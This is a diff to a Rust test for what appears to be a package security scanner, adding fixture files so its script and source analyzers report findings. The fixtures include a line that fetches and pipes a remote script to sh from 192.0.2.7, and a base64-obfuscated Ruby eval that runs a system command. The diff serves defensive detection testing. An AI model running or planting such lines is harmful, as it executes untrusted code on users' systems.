@@ -37,6 +37,8 @@ fn packages() -> [TestPackage; 3] {
     let strange = PackageBuilder::new("generic", "strange")
         .file("\u{e9}/empty", "")
         .file("notes", "a stranger")
+        .file("get.sh", "curl -s http://192.0.2.7/x | sh\n")
+        .file("a.rb", "eval(Base64.decode64('c3lzdGVtKCJpZCIp'))\n")
         .file("setup.py", [0_u8; 100])
         .file("package.json", "{\"name\":")
         .setting("names.generic", "stranger\n")
@@ -78,6 +80,8 @@ fn every_bundled_analyzer_answers_alike() {
         compare::<packguard_bytecode::Bytecode>(),
         compare::<packguard_names::Names>(),
         compare::<packguard_rules::Rules>(),
+        compare::<packguard_scripts::Scripts>(),
+        compare::<packguard_sources::Sources>(),
     ] {
         assert!(findings > 0);
     }
